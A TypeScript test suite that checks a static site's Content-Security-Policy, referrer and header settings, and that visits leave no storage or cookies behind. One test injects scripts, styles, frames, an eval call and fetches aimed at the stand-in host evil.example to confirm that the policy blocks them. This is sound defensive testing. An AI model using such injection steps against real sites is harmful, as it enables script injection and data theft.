import { readdirSync, readFileSync } from 'node:fs';
import { expect, test } from 'vitest';
import { browse, everyPage, open, setUpSite } from './browse.ts';
import { dist, fullest, urls } from './built-site.ts';

setUpSite();

const documents = readdirSync(dist, { recursive: true, encoding: 'utf8' })
  .filter((path) => path.endsWith('.html'))
  .sort();

/** The directives of a policy by name, each with its sources. */
function parsePolicy(policy: string): Map<string, string[]> {
  return new Map(
    policy
      .split(';')
      .map((directive) => directive.trim().split(/\s+/u))
      .map(([name = '', ...sources]) => [name, sources]),
  );
}

test('every page has the policy, which allows nothing by default, nothing inline and nothing foreign', () => {
  expect(documents.length).toBeGreaterThan(60);
  for (const path of documents) {
    const html = readFileSync(`${dist}/${path}`, 'utf8');
    const [, content = ''] = /<meta http-equiv="content-security-policy" content="([^"]*)"/u.exec(html) ?? [];
    const policy = parsePolicy(content);
    expect(policy.get('default-src'), path).toEqual(["'none'"]);
    expect(policy.get('base-uri'), path).toEqual(["'none'"]);
    expect(policy.get('form-action'), path).toEqual(["'none'"]);
    for (const [name, sources] of policy) {
      for (const source of sources)
        expect(source, `${path}: ${name}`).toMatch(/^(?:'none'|'self'|data:|'sha(?:256|384|512)-[\w+/=-]+')$/u);
      if (sources.includes('data:')) expect(name, path).toBe('img-src');
    }
    // A policy in the markup holds for what comes after it alone.
    expect(html.indexOf('http-equiv="content-security-policy"'), path).toBeLessThan(
      html.search(/<(?:script|style|link rel="stylesheet")/u),
    );
    expect(html, path).toContain('<meta name="referrer" content="no-referrer">');
  }
});

test('hosts that read `_headers` are told what only a header can say', () => {
  const headers = readFileSync(`${dist}/_headers`, 'utf8');
  expect(headers).toMatch(/^\/\*\n(?: {2}.+\n)* {2}Content-Security-Policy: frame-ancestors 'none'$/mu);
  expect(headers).toContain('X-Content-Type-Options: nosniff');
  expect(headers).not.toContain('unsafe');
});

test('what somebody put into a page would neither run, nor style it, nor fetch anything', async () => {
  await browse({}, async (page, context) => {
    // Each attempt is an error on the console, which is what is tested here. A request that left would still be counted.
    context.removeAllListeners('console');
    await open(page, urls.page('en', `bases/${fullest}`));
    const refused = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        violations.push(effectiveDirective),
      );
      const add = (name: string, set: (element: HTMLElement) => void) => {
        const element = document.createElement(name);
        set(element);
        document.body.append(element);
        return element;
      };
      add('script', (element) => (element.textContent = 'window.ran = "inline script"'));
      add('script', (element) => element.setAttribute('src', 'https://evil.example/x.js'));
      add('style', (element) => (element.textContent = 'body { color: rgb(1, 2, 3) }'));
      add('p', (element) => element.setAttribute('style', 'color: rgb(1, 2, 3)'));
      add('button', (element) => element.setAttribute('onclick', 'window.ran = "handler"')).click();
      add('img', (element) => element.setAttribute('src', 'https://evil.example/x.png'));
      add('iframe', (element) => element.setAttribute('src', 'https://evil.example/'));
      add('link', (element) => {
        element.setAttribute('rel', 'stylesheet');
        element.setAttribute('href', 'https://evil.example/x.css');
      });
      add('object', (element) => element.setAttribute('data', 'https://evil.example/'));
      await fetch('https://evil.example/').catch(() => null);
      await new Promise((resolve) => setTimeout(resolve, 300));
      // Not before: while it calls into a page, the debugger itself allows this one.
      try {
        (globalThis as unknown as { eval(code: string): void }).eval('window.ran = "eval"');
      } catch {
        violations.push('eval');
      }
      const { color } = getComputedStyle(document.querySelector('body > p')!);
      return { violations: [...new Set(violations)].sort(), ran: (window as { ran?: string }).ran, color };
    });
    expect(refused.ran).toBe(undefined);
    expect(refused.color).not.toBe('rgb(1, 2, 3)');
    expect(refused.violations).toEqual(
      expect.arrayContaining([
        'connect-src',
        'eval',
        'frame-src',
        'img-src',
        'object-src',
        'script-src-attr',
        'script-src-elem',
        'style-src-attr',
        'style-src-elem',
      ]),
    );
  });
});

test('a visit leaves nothing behind and asks no other origin, on every page', async () => {
  // `browse` counts a request to another origin as a failure.
  await browse({}, async (page, context) => {
    for (const { lang, page: name } of everyPage) {
      await open(page, urls.page(lang, name));
      // To the end and back, so that whatever comes to life does.
      await page.evaluate(async () => {
        for (let y = 0; y < document.body.scrollHeight; y += 600) {
          scrollTo(0, y);
          await new Promise((resolve) => setTimeout(resolve, 20));
        }
      });
      await page.waitForLoadState('networkidle');
      const kept = await page.evaluate(async () => ({
        local: localStorage.length,
        session: sessionStorage.length,
        databases: (await indexedDB.databases()).length,
        workers: (await navigator.serviceWorker.getRegistrations()).length,
        caches: (await globalThis.caches?.keys())?.length ?? 0,
      }));
      expect(kept, name).toEqual({ local: 0, session: 0, databases: 0, workers: 0, caches: 0 });
      expect(await page.locator('[style]:not(canvas, .mujaz-chart-live, .mujaz-chart-live *, svg)').count(), name).toBe(
        0,
      );
    }
    expect(await context.cookies()).toEqual([]);
  });
});
